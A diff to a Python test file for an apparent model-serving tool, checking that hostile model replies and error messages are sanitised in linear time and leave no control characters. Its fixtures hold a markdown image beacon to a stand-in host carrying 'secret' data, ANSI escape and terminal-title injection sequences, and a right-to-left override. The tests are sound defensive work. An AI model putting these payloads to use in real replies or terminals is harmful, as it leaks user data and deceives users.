@@ -13,9 +13,9 @@ from __future__ import annotations
 import io
 import logging
 import re
+import sys
 import time
 from collections.abc import Callable, Iterator
-from typing import ClassVar
 
 import httpx
 import pytest
@@ -28,11 +28,9 @@ from core.auth import LOCAL_USER
 from core.catalog import Catalog, CatalogTarget
 from core.config import load_settings
 from core.errors import ProviderError
-from core.providers.base import BaseProvider
-from core.providers.registry import Registry
 from core.requester import Requester
 from core.service import ModelDesk
-from core.types import Capability, ChatEvent, ModelInfo, StreamEnd
+from core.types import Capability, ModelInfo, StreamEnd
 from core.untrusted import (
     MAX_ID,
     WORD_JOINER,
@@ -44,6 +42,7 @@ from core.untrusted import (
     usable_model_id,
     usable_models,
 )
+from tests.doubles import Script, ScriptedProvider, scripted_provider, scripted_registry
 
 BEACON = "http://evil.test/beacon.png?data=secret"
 HOSTILE = [
@@ -233,6 +232,36 @@ def test_100k_hostile_replies_take_linear_time(name: str) -> None:
     assert large <= 3.0 * small + 0.02, f"{name}: 50k {small:.3f} s, 100k {large:.3f} s"
 
 
+def _calls_made(text: str) -> int:
+    """Every Python and C function call made while `text` is made safe (a count: the
+    same on any machine, at any load)."""
+    count = 0
+
+    def profile(frame: object, event: str, arg: object) -> None:
+        nonlocal count
+        if event in ("call", "c_call"):
+            count += 1
+
+    previous = sys.getprofile()
+    sys.setprofile(profile)
+    try:
+        out = safe_reply_markdown(text)
+    finally:
+        sys.setprofile(previous)
+    assert active_syntax(out) == []
+    return count
+
+
+@pytest.mark.parametrize("name", list(HOSTILE_BUILDERS))
+def test_hostile_replies_do_linear_work(name: str) -> None:
+    """Doubling a hostile reply doubles the calls made (measured: 1.98-2.00x; quadratic work
+    would be about 4x). The regex engine's own scanning is inside its calls: the CPU test
+    below bounds that."""
+    build = HOSTILE_BUILDERS[name]
+    small, large = _calls_made(build(10_000)), _calls_made(build(20_000))
+    assert large <= 2.2 * small, f"{name}: 10k {small} calls, 20k {large} calls"
+
+
 def test_a_reply_is_capped() -> None:
     out = safe_reply_markdown("a" * 300_000)
     assert out.endswith("… (100,000 more characters)")
@@ -335,38 +364,34 @@ HOSTILE_MODELS = [
 ]
 
 
-class Hostile(BaseProvider):
-    slug, display_name, base_url_env = "hostile", "Hostile", "HOSTILE_BASE_URL"
-    default_base_url = "http://hostile.invalid/v1"
-    capabilities = frozenset({Capability.CHAT})
-    key_required_for_listing = False
-    key_required = False
-    failure: ClassVar[ProviderError | None] = None
-
-    def list_models(self, api_key: str | None) -> list[ModelInfo]:
-        if self.failure is not None:
-            raise self.failure
-        return list(HOSTILE_MODELS)
-
-    def chat(self, model, messages, api_key, options=None) -> Iterator[ChatEvent]:
-        if self.failure is not None:
-            raise self.failure
-        yield "reply \x1b[2J\x1b]0;title\x07 ok \u202e"
-        yield StreamEnd()
+def hostile_provider(script: Script) -> type[ScriptedProvider]:
+    """A chat provider needing no key, answering from `script`."""
+    return scripted_provider(
+        script, "hostile", capabilities=frozenset({Capability.CHAT}), key_required=False
+    )
 
 
-def test_the_catalogue_drops_unusable_ids() -> None:
+@pytest.fixture
+def hostile() -> Script:
+    """Control characters in its catalogue and its reply."""
+    return Script(
+        models=HOSTILE_MODELS,
+        reply=["reply \x1b[2J\x1b]0;title\x07 ok \u202e", StreamEnd()],
+    )
+
+
+def test_the_catalogue_drops_unusable_ids(hostile: Script) -> None:
     with httpx.Client() as client:
-        entry = Catalog().get(CatalogTarget(Hostile(client)))
+        entry = Catalog().get(CatalogTarget(hostile_provider(hostile)(client)))
     assert [m.id for m in entry.models] == ["ok/chat"]
     assert entry.models[0].name == "OK red"
 
 
 @pytest.fixture
-def hostile_desk(monkeypatch) -> Iterator[ModelDesk]:
+def hostile_desk(monkeypatch, hostile: Script) -> Iterator[ModelDesk]:
     monkeypatch.setenv("MODELDESK_SECRET_KEY", Fernet.generate_key().decode())
-    Hostile.failure = None
-    desk = ModelDesk(load_settings({}), registry=Registry({"hostile": Hostile}))
+    registry = scripted_registry(hostile_provider(hostile))
+    desk = ModelDesk(load_settings({}), registry=registry)
     yield desk
     desk.close()
 
@@ -377,20 +402,24 @@ def _run_cli(desk: ModelDesk, argv: list[str], capsys) -> tuple[int, str, str]:
     return code, out.getvalue(), capsys.readouterr().err
 
 
-def test_cli_output_has_no_control_characters(hostile_desk: ModelDesk, capsys) -> None:
+def test_cli_output_has_no_control_characters(
+    hostile_desk: ModelDesk, hostile: Script, capsys
+) -> None:
     hostile_desk.select_model(Requester(LOCAL_USER), "hostile", "chat", "ok/chat")
     code, out, err = _run_cli(hostile_desk, ["generate", "chat", "--prompt", "hi"], capsys)
     assert code == 0 and "reply" in out and "ok" in out
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", out + err)
-    Hostile.failure = ProviderError("Hostile", "down \x1b[2J\x1b[31m![x](http://evil.test)")
+    hostile.error = ProviderError("Hostile", "down \x1b[2J\x1b[31m![x](http://evil.test)")
     hostile_desk.catalog_cache.invalidate()
     code, out, err = _run_cli(hostile_desk, ["models", "-c", "chat"], capsys)
     assert "down" in out and "\x1b" not in out + err
 
 
-def test_cli_errors_have_no_control_characters(hostile_desk: ModelDesk, capsys) -> None:
+def test_cli_errors_have_no_control_characters(
+    hostile_desk: ModelDesk, hostile: Script, capsys
+) -> None:
     hostile_desk.select_model(Requester(LOCAL_USER), "hostile", "chat", "ok/chat")
-    Hostile.failure = ProviderError("Hostile", "nope \x1b]0;title\x07\x1b[2J\u202e")
+    hostile.error = ProviderError("Hostile", "nope \x1b]0;title\x07\x1b[2J\u202e")
     code, _, err = _run_cli(hostile_desk, ["generate", "chat", "--prompt", "hi"], capsys)
     assert code == 1 and "nope" in err
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", err)
